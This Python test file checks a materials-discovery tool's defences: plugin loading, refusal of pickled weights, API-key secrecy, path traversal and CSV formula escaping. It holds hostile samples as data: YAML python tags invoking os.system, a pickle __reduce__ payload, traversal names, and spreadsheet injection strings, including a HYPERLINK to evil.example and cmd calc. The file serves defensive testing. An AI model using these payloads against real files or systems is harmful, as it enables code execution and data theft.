"""Security (issue 7, part 3): what a campaign file can make run, what is unpickled, where the
Materials Project API key may appear, where files are written, and what a spreadsheet may execute.

Each attack is real: plugin modules are installed as distributions (a ``.dist-info`` folder with
entry points in a folder on ``sys.path``, as pip leaves them) whose import writes a marker file;
model weights are pickles whose ``__reduce__`` writes a marker file (checked to work when unpickled
unsafely); Materials Project answers are replayed at the HTTP boundary with ``responses``; every
file a run writes is read back byte for byte.
"""

from __future__ import annotations

import ast
import csv
import importlib
import io
import json
import logging
import os
import pickle
import secrets
import shutil
import sqlite3
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
import requests
import responses
import torch
from responses import matchers
from typer.testing import CliRunner

from discovery._csvsafe import FORMULA_START, csv_safe_frame, escape_cell, unescape_cell
from discovery.campaign import Campaign, CampaignError, load_campaign
from discovery.cli import app
from discovery.errors import DiscoveryError, ModelFileError
from discovery.export import EXPORT_FILES, write_exports
from discovery.oracles import Request
from discovery.oracles.base import OracleContext
from discovery.oracles.inbox import LabInboxOracle
from discovery.oracles.registry import make_oracle
from discovery.surrogate import DeepEnsemble, EnsembleConfig, train_electrode_model
from tests.conftest import install, synthetic_electrodes

REPO = Path(__file__).resolve().parents[1]
FIXTURES = Path(__file__).parent / "fixtures" / "mp_api"
runner = CliRunner()

CAMPAIGN = """\
name: NAME
seed: 0
ions: [Na, Mg]
space: {kind: table, path: electrodes.csv}
initial_data: {path: electrodes.csv, ions: [Li]}
surrogate: {members: 2, max_epochs: 8, hidden: [16]}
acquisition: {strategy: greedy, shortlist: 8}
batch_size: 3
budget: {rounds: ROUNDS, initial_random: 4}
oracle: {name: ORACLE, options: {path: electrodes.csv}}
plugins: PLUGINS
"""


def campaign_text(
    name: str = "safe", oracle: str = "replay", plugins: str = "[]", rounds: int = 1
) -> str:
    return (
        CAMPAIGN.replace("NAME", name)
        .replace("ORACLE", oracle)
        .replace("PLUGINS", plugins)
        .replace("ROUNDS", str(rounds))
    )


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A campaign folder with the synthetic electrode table (pool, initial data and answers)."""
    synthetic_electrodes(n_frameworks=30).to_csv(tmp_path / "electrodes.csv", index=False)
    return tmp_path


# ================================================================ 1. only listed entry points run
def payload_module(marker: Path) -> str:
    """A module that writes ``marker`` when it is imported and when any of its functions runs."""
    return f"""\
        from pathlib import Path
        from discovery.plugins import hookimpl
        MARKER = Path({str(marker)!r})
        MARKER.write_text("imported")

        def run(*args, **kwargs):
            MARKER.write_text("ran")

        @hookimpl
        def discovery_batch_proposed(round):
            MARKER.write_text(f"hook ran in round {{round}}")

        class Oracle:
            @classmethod
            def from_options(cls, options, context):
                MARKER.write_text("oracle created")
                raise RuntimeError("never used")
    """


@pytest.fixture
def payload(site: Path, tmp_path: Path) -> Path:
    """``evil_payload`` importable from sys.path (NOT an entry point); returns its marker path."""
    marker = tmp_path / "evil-payload-ran"
    (site / "evil_payload.py").write_text(textwrap.dedent(payload_module(marker)))
    return marker


def _code_references(site: Path) -> list[str]:
    module_file = str(site / "evil_payload.py")
    return [
        "evil_payload",
        "evil_payload:Oracle",
        "evil_payload:run",
        "evil_payload.Oracle",
        "discovery.oracles.replay:ReplayOracle",
        "os:system",
        module_file,
        "./evil_payload.py",
        "../site/evil_payload.py",
        "file://" + module_file,
    ]


def test_oracle_and_plugin_names_resolve_only_installed_entry_points(
    folder: Path, site: Path, payload: Path
) -> None:
    """An oracle or plugin name that is a module, ``module:attr``, a file path or a URL of code
    importable from sys.path is refused naming the field, and nothing is imported."""
    tried = 0
    for reference in _code_references(site):
        for field, text in (
            ("oracle.name", campaign_text(oracle=json.dumps(reference))),
            ("plugins[0]", campaign_text(plugins=json.dumps([reference]))),
        ):
            path = folder / "campaign.yaml"
            path.write_text(text)
            with pytest.raises(CampaignError) as info:
                load_campaign(path)
            assert info.value.field == field, (reference, str(info.value))
            assert "unknown" in str(info.value)
            tried += 1
    # make_oracle itself (the one place an oracle is created) refuses the same names
    context = OracleContext(base_dir=folder, workdir=folder / "w")
    for reference in _code_references(site):
        with pytest.raises(DiscoveryError, match=r"oracle\.name: unknown oracle"):
            make_oracle(reference, {"path": "electrodes.csv"}, context)
    assert tried == 20
    assert not payload.exists()
    assert "evil_payload" not in sys.modules
    importlib.import_module("evil_payload")  # the payload is live: imported, it leaves its mark
    assert payload.read_text() == "imported"


@pytest.mark.parametrize(
    "line",
    [
        "seed: !!python/object/apply:evil_payload.run []",
        "seed: !!python/object/apply:os.system ['echo ran > MARKER']",
        "seed: !!python/object/new:evil_payload.Oracle []",
        "seed: !!python/name:evil_payload.run ''",
        "seed: !!python/module:evil_payload ''",
        "seed: !!python/object:evil_payload.Oracle {a: 1}",
        "seed: !!python/tuple [1, 2]",
        "seed: !<tag:yaml.org,2002:python/object/apply:evil_payload.run> []",
    ],
)
def test_python_yaml_tags_run_nothing(folder: Path, payload: Path, line: str) -> None:
    """Python tags in a campaign file are errors naming the line; the safe loader constructs
    nothing, so neither the payload module nor a shell command runs (also via the CLI)."""
    text = campaign_text().replace("seed: 0", line.replace("MARKER", str(payload)))
    path = folder / "campaign.yaml"
    path.write_text(text)
    with pytest.raises(CampaignError) as info:
        load_campaign(path)
    assert info.value.line == 2, str(info.value)
    assert "python" in str(info.value)
    result = runner.invoke(app, ["validate", str(path)])
    assert result.exit_code == 2
    assert f"{path}:2" in result.stderr
    assert not payload.exists()
    assert "evil_payload" not in sys.modules


def test_installed_plugins_run_only_when_listed(folder: Path, site: Path, tmp_path: Path) -> None:
    """An installed hook plugin and an installed oracle that the campaign does not name are not
    even imported; listed, the same hook plugin runs (so the markers would show it)."""
    hook_marker, oracle_marker = tmp_path / "hook-ran", tmp_path / "oracle-ran"
    install(
        site,
        "lab-sneaky",
        {
            "sneaky_hooks": payload_module(hook_marker),
            "sneaky_oracle": payload_module(oracle_marker),
        },
        hooks={"sneaky": "sneaky_hooks"},
        oracles={"sneaky-oracle": "sneaky_oracle:Oracle"},
    )
    path = folder / "campaign.yaml"
    path.write_text(campaign_text())
    outcome = Campaign.from_file(path, workdir=folder / "quiet").run()
    assert outcome.state == "finished" and outcome.oracle_calls == 4
    assert not hook_marker.exists() and not oracle_marker.exists()
    assert "sneaky_hooks" not in sys.modules and "sneaky_oracle" not in sys.modules

    path.write_text(campaign_text(plugins="[sneaky]"))
    Campaign.from_file(path, workdir=folder / "listed").run()
    assert hook_marker.read_text() == "hook ran in round 0"
    assert not oracle_marker.exists()


# ================================================================ 2. nothing is unpickled
class _WritesMarker:
    """Unpickling this object writes a file: what a malicious model file would do."""

    def __init__(self, path: Path) -> None:
        self.path = str(path)

    def __reduce__(self) -> tuple[Any, ...]:
        return (Path.write_text, (Path(self.path), "unpickled"))


@pytest.fixture(scope="module")
def model_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A tiny electrode model saved by ``discover``'s own code (2 members, 4 epochs)."""
    root = tmp_path_factory.mktemp("model")
    frame = synthetic_electrodes(n_frameworks=20)
    model = train_electrode_model(
        frame, config=EnsembleConfig(members=2, hidden=(16,), max_epochs=4, seed=0)
    )
    return model.save(root / "model")


def _poisoned(model_dir: Path, target: Path, marker: Path, kind: str) -> Path:
    """A copy of ``model_dir`` whose weights.pt unpickles :class:`_WritesMarker`."""
    shutil.copytree(model_dir, target)
    weights = target / "weights.pt"
    state = {"x_mean": _WritesMarker(marker)}
    if kind == "torch-zip":
        torch.save(state, weights)
    else:
        weights.write_bytes(pickle.dumps(state, protocol=int(kind.removeprefix("pickle-"))))
    return target


@pytest.mark.parametrize("kind", ["torch-zip", "pickle-2", "pickle-4"])
def test_model_weights_holding_objects_are_refused(
    model_dir: Path, tmp_path: Path, kind: str
) -> None:
    marker = tmp_path / "pwned"
    poisoned = _poisoned(model_dir, tmp_path / "model", marker, kind)
    # the payload is live: unpickled the unsafe way it writes the marker
    control = tmp_path / "control"
    pickle.loads(pickle.dumps(_WritesMarker(control)))
    assert control.read_text() == "unpickled"

    with pytest.raises(ModelFileError) as info:  # (and no warning escapes: they are errors here)
        DeepEnsemble.load(poisoned)
    assert str(poisoned / "weights.pt") in str(info.value)
    assert "refused to load" in str(info.value)
    assert "weights_only" not in str(info.value)  # torch's advice to turn the safety off is cut
    assert not marker.exists()


@pytest.mark.parametrize(
    "content", [b"", b"PK\x03\x04 truncated zip", b"hello" * 20, "list"], ids=str
)
def test_damaged_weights_files_are_named_not_a_crash(
    model_dir: Path, tmp_path: Path, content: bytes | str
) -> None:
    damaged = tmp_path / "model"
    shutil.copytree(model_dir, damaged)
    if content == "list":
        torch.save([1, 2], damaged / "weights.pt")  # loads safely, but is no model's weights
    else:
        assert isinstance(content, bytes)
        (damaged / "weights.pt").write_bytes(content)
    with pytest.raises(ModelFileError, match="not a weights file written by discover train"):
        DeepEnsemble.load(damaged)


def test_poisoned_models_are_refused_by_predict_and_the_model_oracle(
    model_dir: Path, tmp_path: Path
) -> None:
    """The two ways a user hands discovery a model directory: ``discover predict --model`` and the
    ``model`` oracle's ``model:`` option. Both stop with an error naming weights.pt."""
    marker = tmp_path / "pwned"
    poisoned = _poisoned(model_dir, tmp_path / "model", marker, "torch-zip")
    candidates = tmp_path / "candidates.csv"
    synthetic_electrodes(n_frameworks=4).drop(columns=["average_voltage"]).to_csv(
        candidates, index=False
    )
    result = runner.invoke(
        app,
        [
            "predict",
            "--model",
            str(poisoned),
            "--input",
            str(candidates),
            "--out",
            str(tmp_path / "p.csv"),
        ],
    )
    assert result.exit_code == 2
    assert f"{poisoned / 'weights.pt'}: refused to load" in result.stderr
    context = OracleContext(base_dir=tmp_path, workdir=tmp_path / "work")
    with pytest.raises(ModelFileError, match=r"weights\.pt: refused to load"):
        make_oracle("model", {"model": "model"}, context)
    assert not marker.exists()
    assert not (tmp_path / "p.csv").exists()


def test_chgnet_job_and_cache_files_are_json_never_unpickled(tmp_path: Path, site: Path) -> None:
    """The CHGNet plugin keeps jobs and relaxations as JSON: a job or cache file replaced by a
    pickle is treated as absent (the job is unknown, the relaxation is redone), a JSON record with
    a monty-style ``@module`` is read as plain data, and nothing is imported or run."""
    from discovery_chgnet.oracle import CHGNetOracle, _job_id
    from discovery_chgnet.relax import read_record

    marker = tmp_path / "pwned"
    (site / "evil_payload.py").write_text(textwrap.dedent(payload_module(marker)))
    oracle = CHGNetOracle(tmp_path / "work")
    job = _job_id("c-0123456789abcdef", "safe/c-0123456789abcdef")
    oracle.jobs_dir.mkdir(parents=True)
    blob = pickle.dumps({"request": _WritesMarker(marker)}, protocol=2)
    oracle._job_path(job).write_bytes(blob)
    assert oracle.poll([job]) == {job: "failed"}
    (answer,) = oracle.collect([job])
    assert answer.status == "failed" and "unknown job id" in answer.message
    for foreign in (
        [1, 2],
        {"request": 1},
        {"request": {}, "submitted_at": "x", "result": {"x": 1}},
    ):
        oracle._job_path(job).write_text(json.dumps(foreign))  # JSON of another shape: no crash
        assert oracle.poll([job]) == {job: "failed"}

    key = "0123456789abcdef01234567"
    oracle.cache_dir.mkdir(parents=True)
    (oracle.cache_dir / f"{key}.json").write_bytes(blob)
    assert read_record(oracle.cache_dir, key) is None
    monty = {"key": key, "status": "ok", "@module": "evil_payload", "@class": "Oracle"}
    (oracle.cache_dir / f"{key}.json").write_text(json.dumps(monty))
    assert read_record(oracle.cache_dir, key) == monty
    oracle.close()
    assert not marker.exists()
    assert "evil_payload" not in sys.modules


_UNSAFE_CALLS = {
    ("pickle", "load"),
    ("pickle", "loads"),
    ("pickle", "Unpickler"),
    ("cloudpickle", "load"),
    ("cloudpickle", "loads"),
    ("dill", "load"),
    ("dill", "loads"),
    ("joblib", "load"),
    ("pd", "read_pickle"),
    ("pandas", "read_pickle"),
    ("yaml", "unsafe_load"),
    ("yaml", "full_load"),
    ("yaml", "load_all"),
    ("marshal", "loads"),
    ("shelve", "open"),
}


def _unsafe_loads(source: str, name: str) -> list[str]:
    """Calls in ``source`` that would unpickle or run data read from disk (see the test)."""
    found = []
    for node in ast.walk(ast.parse(source, filename=name)):
        if not isinstance(node, ast.Call):
            continue
        func = node.func
        where = f"{name}:{node.lineno}"
        keywords = {k.arg: k.value for k in node.keywords}
        if isinstance(func, ast.Name) and func.id in ("eval", "exec", "__import__"):
            found.append(f"{where} {func.id}()")
        if not (isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name)):
            continue
        call = (func.value.id, func.attr)
        if call in _UNSAFE_CALLS:
            found.append(f"{where} {'.'.join(call)}()")
        elif call == ("torch", "load"):
            safe = keywords.get("weights_only")
            if not (isinstance(safe, ast.Constant) and safe.value is True):
                found.append(f"{where} torch.load() without weights_only=True")
        elif call in (("np", "load"), ("numpy", "load")):
            allow = keywords.get("allow_pickle")
            if allow is not None and not (isinstance(allow, ast.Constant) and allow.value is False):
                found.append(f"{where} np.load(allow_pickle=...)")
        elif call == ("yaml", "load"):
            loader = keywords.get("Loader")
            kind = loader.id if isinstance(loader, ast.Name) else getattr(loader, "attr", "")
            if kind not in ("SafeLoader", "CSafeLoader", "_Loader"):
                found.append(f"{where} yaml.load(Loader={kind or '?'})")
    return found


def test_no_code_loads_pickles_or_unsafe_yaml() -> None:
    """A regression guard over the package and the CHGNet plugin: the one torch.load passes
    weights_only=True, and nothing calls pickle/joblib/dill loads, pd.read_pickle,
    np.load(allow_pickle=True), an unsafe YAML loader, eval or exec."""
    files = sorted((REPO / "discovery").rglob("*.py"))
    files += sorted((REPO / "plugins" / "discovery-chgnet" / "discovery_chgnet").rglob("*.py"))
    assert len(files) > 40
    sources = {str(p.relative_to(REPO)): p.read_text() for p in files}
    found = [hit for name, text in sources.items() for hit in _unsafe_loads(text, name)]
    assert found == []
    assert [n for n, text in sources.items() if "torch.load(" in text] == [
        "discovery/surrogate/ensemble.py"
    ]
    # the guard sees each kind of unsafe call
    probe = textwrap.dedent("""\
        pickle.loads(b)
        torch.load(p)
        torch.load(p, weights_only=False)
        np.load(p, allow_pickle=True)
        pd.read_pickle(p)
        yaml.load(t, Loader=yaml.Loader)
        yaml.unsafe_load(t)
        joblib.load(p)
        eval(t)
        np.load(p)
        torch.load(p, weights_only=True)
        yaml.load(t, Loader=yaml.SafeLoader)
    """)
    assert [hit.split()[0] for hit in _unsafe_loads(probe, "probe")] == [
        f"probe:{n}" for n in range(1, 10)
    ]


# ================================================================ 3. the API key stays secret
API = "https://api.materialsproject.org/"
HEARTBEAT = API + "heartbeat"
ELECTRODES = API + "materials/insertion_electrodes/"
FIELDS = "material_ids,working_ion,adj_pairs"


def _fixture(name: str) -> Any:
    return json.loads((FIXTURES / name).read_text())


def _fresh_mp_api() -> None:
    """Forget the heartbeat mp-api caches per endpoint, so each fetch sends the same requests."""
    from mp_api.client import MPRester
    from mp_api.client.core.client import _Rester

    MPRester.get_emmet_version.cache_clear()
    _Rester._get_heartbeat_info.cache_clear()


@pytest.fixture
def debug_log(tmp_path: Path) -> Iterator[Path]:
    """Every log record of every logger, DEBUG and up, written to a file for the test."""
    path = tmp_path / "logs" / "debug.log"
    path.parent.mkdir()
    handler = logging.FileHandler(path, encoding="utf-8")
    handler.setLevel(logging.DEBUG)
    handler.setFormatter(logging.Formatter("%(levelname)s %(name)s: %(message)s %(args)s"))
    root = logging.getLogger()
    level = root.level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    try:
        yield path
    finally:
        root.removeHandler(handler)
        root.setLevel(level)
        handler.close()


def _leaks(root: Path, key: str) -> tuple[int, list[str]]:
    """(files read, files holding the key or half of it, in UTF-8 or UTF-16)."""
    needles = [key, key[:16], key[16:]]
    patterns = [n.encode(enc) for n in needles for enc in ("utf-8", "utf-16-le")]
    read, hits = 0, []
    for path in sorted(p for p in root.rglob("*") if p.is_file()):
        data = path.read_bytes()
        read += 1
        if any(p in data for p in patterns):
            hits.append(str(path.relative_to(root)))
    return read, hits


def test_mp_api_key_never_reaches_logs_ledgers_or_exports(
    folder: Path,
    debug_log: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    """``discover -v data fetch`` (a good answer, a rejected key, a server that echoes the key, a
    connection error quoting it) and ``discover -v run`` + ``export`` of a campaign, with the key in
    MP_API_KEY and every logger at DEBUG: no file written, no output, no log line holds the key.
    """
    key = secrets.token_hex(16)  # 32 characters, as mp-api requires
    monkeypatch.setenv("MP_API_KEY", key)
    outputs = folder / "outputs"
    outputs.mkdir()
    sent_with_key = 0

    def fetch(name: str, ions: str, **answer: Any) -> int:
        nonlocal sent_with_key
        _fresh_mp_api()
        with responses.RequestsMock(assert_all_requests_are_fired=False) as rsps:
            rsps.get(HEARTBEAT, json=_fixture("heartbeat.json"))
            for ion in ions.split(","):
                rsps.get(
                    ELECTRODES,
                    match=[
                        matchers.query_param_matcher(
                            {"working_ion": ion, "_limit": "1000", "_fields": FIELDS}
                        ),
                        matchers.header_matcher({"x-api-key": key}),
                    ],
                    **(answer or {"json": _fixture(f"insertion_electrodes_{ion}.json")}),
                )
            out = folder / f"{name}.csv"
            result = runner.invoke(app, ["-v", "data", "fetch", "--ions", ions, "--out", str(out)])
            sent_with_key += sum(
                c.request.headers.get("x-api-key") == key for c in rsps.calls if c.response
            )
        (outputs / f"{name}.stdout").write_text(result.stdout)
        (outputs / f"{name}.stderr").write_text(result.stderr)
        return result.exit_code

    assert fetch("fetched", "Li,Na") == 0
    assert len(pd.read_csv(folder / "fetched.csv")) == 10
    assert fetch("rejected", "Li", status=401, json=_fixture("error_401.json")) == 2
    assert fetch("echoed", "Li", status=500, json={"detail": f"timeout for key {key}"}) == 2
    assert (
        fetch("reset", "Li", body=requests.ConnectionError(f"reset; header x-api-key={key}")) == 2
    )
    assert sent_with_key >= 3  # the key was in use: sent (as a header) to the data endpoint
    assert "rejected the API key" in (outputs / "rejected.stderr").read_text()
    assert "timeout for key <MP_API_KEY>" in (outputs / "echoed.stderr").read_text()

    path = folder / "campaign.yaml"
    path.write_text(campaign_text(name="keyed", rounds=2))
    run = runner.invoke(app, ["-v", "run", str(path)])
    assert run.exit_code == 0, run.stderr
    export = runner.invoke(
        app, ["export", str(folder / "runs" / "keyed"), "--out", str(folder / "front")]
    )
    assert export.exit_code == 0, export.stderr
    for name, result in (("run", run), ("export", export)):
        (outputs / f"{name}.stdout").write_text(result.stdout)
        (outputs / f"{name}.stderr").write_text(result.stderr)
    captured = capfd.readouterr()
    (outputs / "fd.stdout").write_text(captured.out)
    (outputs / "fd.stderr").write_text(captured.err)

    ledger = folder / "runs" / "keyed" / "ledger.sqlite"
    with sqlite3.connect(ledger) as db:
        assert db.execute("SELECT COUNT(*) FROM results").fetchone()[0] == 7
    assert debug_log.stat().st_size > 0 and "fetched 10 voltage pairs" in debug_log.read_text()
    read, hits = _leaks(folder, key)
    assert hits == []
    assert read >= 30  # fetch outputs, logs, ledger, models, two sets of exports
    # the scan finds the key where it is (a control file)
    (folder / "control.bin").write_bytes(b"x" + key[16:].encode("utf-16-le"))
    assert _leaks(folder, key)[1] == ["control.bin"]


# ================================================================ 4. file names stay inside
@pytest.mark.parametrize(
    "name", ["../../escape", "/var/escape", "a/b", "a\\b", "..", ".", "a\x00b", "~root", "", "c:x"]
)
def test_campaign_names_cannot_leave_the_runs_folder(folder: Path, name: str) -> None:
    """The campaign name names the default work directory (runs/<name>): a path, a NUL byte or
    anything but letters, digits, '_', '.' and '-' (and not only dots) is refused naming it."""
    path = folder / "campaign.yaml"
    path.write_text(campaign_text(name=json.dumps(name)))  # a JSON string is a YAML string
    with pytest.raises(CampaignError) as info:
        load_campaign(path)
    assert info.value.field == "name" and info.value.line == 1, str(info.value)
    assert sorted(p.name for p in folder.iterdir()) == ["campaign.yaml", "electrodes.csv"]


def test_a_valid_name_makes_a_work_directory_under_runs(folder: Path) -> None:
    path = folder / "campaign.yaml"
    path.write_text(campaign_text(name="a..b-c_d.e"))
    assert load_campaign(path).workdir == folder / "runs" / "a..b-c_d.e"


HOSTILE_IDS = ["../../escape", "/var/abs-escape", "sub/dir", "..", "a\x00b", "=1+2", "-3", "@x"]


def _files(root: Path) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


def test_lab_requests_are_named_by_round_only(tmp_path: Path) -> None:
    """Hostile candidate ids are cells of requests/round-000.csv, never file names, and come
    back as they were; a round that is not an integer >= 0 is refused before anything is written."""
    workdir = tmp_path / "work"
    oracle = LabInboxOracle(workdir)
    requests_ = [
        Request(cid, "Na", "MnO2", "NaMnO2", 0, f"k/{i}") for i, cid in enumerate(HOSTILE_IDS)
    ]
    jobs = oracle.submit(requests_)
    assert _files(tmp_path) == ["work/requests/round-000.csv"]
    assert oracle.poll(jobs) == dict.fromkeys(jobs, "pending")
    assert set(oracle._requested) == set(HOSTILE_IDS)
    for bad in (-1, True, 1.5, "../1", "1/../../x"):
        with pytest.raises(DiscoveryError, match="round must be an integer >= 0"):
            oracle.submit([Request("c-1", "Na", "MnO2", "NaMnO2", bad, "k")])  # type: ignore[arg-type]
    assert _files(tmp_path) == ["work/requests/round-000.csv"]


def test_chgnet_job_files_cannot_leave_the_jobs_folder(tmp_path: Path) -> None:
    """A candidate id that is not a plain file-name part is refused for the whole batch before any
    job is saved or started; a crafted job id never reads a job file planted outside jobs/."""
    from discovery_chgnet.oracle import CHGNetOracle

    oracle = CHGNetOracle(tmp_path / "work")
    for cid in ["../../escape", "/var/abs", "sub/dir", "a\x00b", "a\\b", "x\ny"]:
        batch = [
            Request("c-0123456789abcdef", "Na", "MnO2", "NaMnO2", 0, "k/ok"),
            Request(cid, "Na", "MnO2", "NaMnO2", 0, f"k/{cid}"),
        ]
        with pytest.raises(DiscoveryError, match="cannot name a file in"):
            oracle.submit(batch)
    assert _files(tmp_path) == []
    assert oracle.relaxations_submitted == 0

    # a planted "finished" job outside jobs/, and the folder a traversal would pass through
    planted = {
        "job_id": "x",
        "request": {"candidate_id": "c-x"},
        "submitted_at": "2026-01-01T00:00:00+00:00",
        "result": {
            "candidate_id": "c-x",
            "job_id": "x",
            "status": "ok",
            "values": {"average_voltage": 9.9},
            "oracle": "chgnet",
            "fidelity": "chgnet",
            "started_at": "2026-01-01T00:00:00+00:00",
            "finished_at": "2026-01-01T00:00:00+00:00",
        },
    }
    (oracle.jobs_dir / "chgnet_x").mkdir(parents=True)
    (oracle.jobs_dir.parent / "planted.json").write_text(json.dumps(planted))
    crafted = "chgnet:x/../../planted"
    assert (oracle.jobs_dir / (crafted.replace(":", "_") + ".json")).resolve().is_file()
    assert oracle.poll([crafted]) == {crafted: "failed"}
    (answer,) = oracle.collect([crafted])
    assert answer.status == "failed" and answer.values == {}
    oracle.close()


def _history(n: int = 6) -> pd.DataFrame:
    rng = np.random.default_rng(0)
    return pd.DataFrame(
        {
            "candidate_id": [f"c-{i:016x}" for i in range(n)],
            "formula_charge": ["MnO2"] * n,
            "formula_discharge": ["NaMnO2"] * n,
            "working_ion": ["Na"] * n,
            "average_voltage": rng.uniform(1, 4, n),
            "capacity_grav": rng.uniform(50, 250, n),
            "round": np.arange(n),
            "oracle": ["lab"] * n,
            "status": ["ok"] * n,
        }
    )


OBJECTIVES = [
    type("O", (), {"name": "average_voltage", "direction": "maximize"})(),
    type("O", (), {"name": "capacity_grav", "direction": "maximize"})(),
]


def test_export_folder_problems_are_clear_errors(tmp_path: Path) -> None:
    history, trace = _history(), pd.DataFrame({"round": [0], "hypervolume": [1.0]})
    with pytest.raises(DiscoveryError, match="contains a NUL byte"):
        write_exports(history, trace, objectives=OBJECTIVES, out_dir=str(tmp_path / "a\x00b"))
    (tmp_path / "file").write_text("not a folder")
    with pytest.raises(DiscoveryError, match="exists and is not a folder"):
        write_exports(history, trace, objectives=OBJECTIVES, out_dir=tmp_path / "file")
    result = runner.invoke(app, ["export", str(tmp_path), "--out", str(tmp_path / "x\x00y")])
    assert result.exit_code == 2 and "'--out'" in result.stderr and "null byte" in result.stderr
    assert _files(tmp_path) == ["file"]


def test_exports_have_fixed_names_and_never_write_through_links(tmp_path: Path) -> None:
    """Candidate ids that look like paths are cells, not names; an export file that is a symbolic
    link to a file elsewhere is replaced by the export, and the file elsewhere is untouched."""
    history = _history(len(HOSTILE_IDS)).assign(candidate_id=HOSTILE_IDS)
    out = tmp_path / "front"
    out.mkdir()
    outside = tmp_path / "precious.txt"
    outside.write_text("keep me")
    for name in ("history.csv", "pareto.json", "pareto.png"):
        (out / name).symlink_to(outside)
    trace = pd.DataFrame({"round": [0], "hypervolume": [1.0]})
    paths = write_exports(history, trace, objectives=OBJECTIVES, out_dir=out)
    assert [p.name for p in paths] == list(EXPORT_FILES)
    assert sorted(os.listdir(out)) == sorted(EXPORT_FILES)
    assert not any((out / n).is_symlink() for n in EXPORT_FILES)
    assert outside.read_text() == "keep me"
    assert _files(tmp_path) == sorted(["precious.txt", *(f"front/{n}" for n in EXPORT_FILES)])
    ids = [unescape_cell(row["candidate_id"]) for row in _raw_csv(out / "history.csv")]
    assert ids == HOSTILE_IDS


# ================================================================ 5. spreadsheet formulas escaped
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _raw_csv(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_escape_helper() -> None:
    for text in FORMULAS:
        assert escape_cell(text) == "'" + text and unescape_cell(escape_cell(text)) == text
    for value in ("c-12ab", "Na", "3.5", "'quoted", -1.5, -2, None, float("nan")):
        assert escape_cell(value) is value
    assert unescape_cell("'not a formula") == "'not a formula"
    assert set(FORMULA_START) == {"=", "+", "-", "@", "\t", "\r"}
    frame = pd.DataFrame({"=x": ["=1", "a"], "v": [-1.0, 2.0], "mixed": [-3.5, "-4"]})
    safe = csv_safe_frame(frame)
    assert list(safe.columns) == ["'=x", "v", "mixed"]
    assert safe["'=x"].tolist() == ["'=1", "a"] and safe["v"].tolist() == [-1.0, 2.0]
    assert safe["mixed"].tolist() == [-3.5, "'-4"]
    assert frame["=x"].tolist() == ["=1", "a"]  # a copy


def test_exported_csv_cells_are_escaped_numbers_stay_numbers(tmp_path: Path) -> None:
    n = len(FORMULAS)
    history = _history(n).assign(
        message=FORMULAS,
        formula_charge=FORMULAS,
        delta=-np.linspace(0.5, 1.0, n),  # negative numbers stay numbers
    )
    trace = pd.DataFrame(
        {"round": [0, 1], "hypervolume": [-0.0, 2.5], "note": ["-1 at start", "=2"]}
    )
    write_exports(history, trace, objectives=OBJECTIVES, out_dir=tmp_path)
    rows = _raw_csv(tmp_path / "history.csv")
    assert [r["message"] for r in rows] == ["'" + f for f in FORMULAS]
    assert [r["formula_charge"] for r in rows] == ["'" + f for f in FORMULAS]
    assert [float(r["delta"]) for r in rows] == history["delta"].tolist()
    front = _raw_csv(tmp_path / "pareto.csv")
    assert front and all(r["message"].startswith("'") for r in front)
    assert all(float(r["average_voltage"]) > 0 for r in front)
    trace_rows = _raw_csv(tmp_path / "hypervolume.csv")
    assert [r["note"] for r in trace_rows] == ["'-1 at start", "'=2"]
    assert trace_rows[0]["hypervolume"] == "-0.0"
    rows_json = json.loads((tmp_path / "pareto.json").read_text())["rows"]
    assert all(r["message"] in FORMULAS for r in rows_json)  # JSON keeps the text as it was


def test_lab_request_files_escape_text_and_read_their_ids_back(tmp_path: Path) -> None:
    """Text cells of a request file are escaped, predictions (numbers, negative too) are not; the
    oracle reads its ids back, and a results file with or without the quote answers the job."""
    oracle = LabInboxOracle(tmp_path)
    ids = ["=HYPERLINK(1)", "-c-1", "c-plain"]
    jobs = oracle.submit(
        [
            Request(cid, "Na", "MnO2", "NaMnO2", 1, f"k/{cid}", {"average_voltage_mean": -0.25})
            for cid in ids
        ]
    )
    raw = (tmp_path / "requests" / "round-001.csv").read_text()
    rows = list(csv.DictReader(io.StringIO(raw)))
    assert [r["candidate_id"] for r in rows] == ["'=HYPERLINK(1)", "'-c-1", "c-plain"]
    assert {r["predicted_average_voltage_V"] for r in rows} == {"-0.25"}
    assert oracle.poll(jobs) == dict.fromkeys(jobs, "pending")
    # resubmitting finds the ids in the file and writes nothing twice
    oracle.submit([Request(cid, "Na", "MnO2", "NaMnO2", 1, f"k/{cid}") for cid in ids])
    assert (tmp_path / "requests" / "round-001.csv").read_text() == raw
    # the lab fills in the request file: one copy keeps the quotes, a spreadsheet drops them
    (tmp_path / "results" / "round-001.csv").write_text(
        "candidate_id,average_voltage_V\n'=HYPERLINK(1),3.1\n-c-1,3.2\n"
    )
    assert oracle.poll(jobs) == {jobs[0]: "done", jobs[1]: "done", jobs[2]: "pending"}
    answers = {r.candidate_id: r for r in oracle.collect(jobs)}
    assert answers["=HYPERLINK(1)"].values == {"average_voltage": 3.1}
    assert answers["-c-1"].values == {"average_voltage": 3.2}
    assert all(r.status == "ok" for r in answers.values())


def test_predict_output_escapes_text_cells(model_dir: Path, tmp_path: Path) -> None:
    frame = synthetic_electrodes(n_frameworks=3).drop(columns=["average_voltage"])
    frame = frame.assign(note=FORMULAS[: len(frame)], offset=-np.arange(1, len(frame) + 1) / 2)
    candidates = tmp_path / "candidates.csv"
    frame.to_csv(candidates, index=False, lineterminator="\r\n")  # the "\r=..." note is quoted
    out = tmp_path / "predicted.csv"
    result = runner.invoke(
        app, ["predict", "--model", str(model_dir), "--input", str(candidates), "--out", str(out)]
    )
    assert result.exit_code == 0, result.stderr
    rows = _raw_csv(out)
    assert [r["note"] for r in rows] == ["'" + f for f in FORMULAS[: len(frame)]]
    assert [r["offset"] for r in rows] == [str(-k / 2) for k in range(1, len(frame) + 1)]
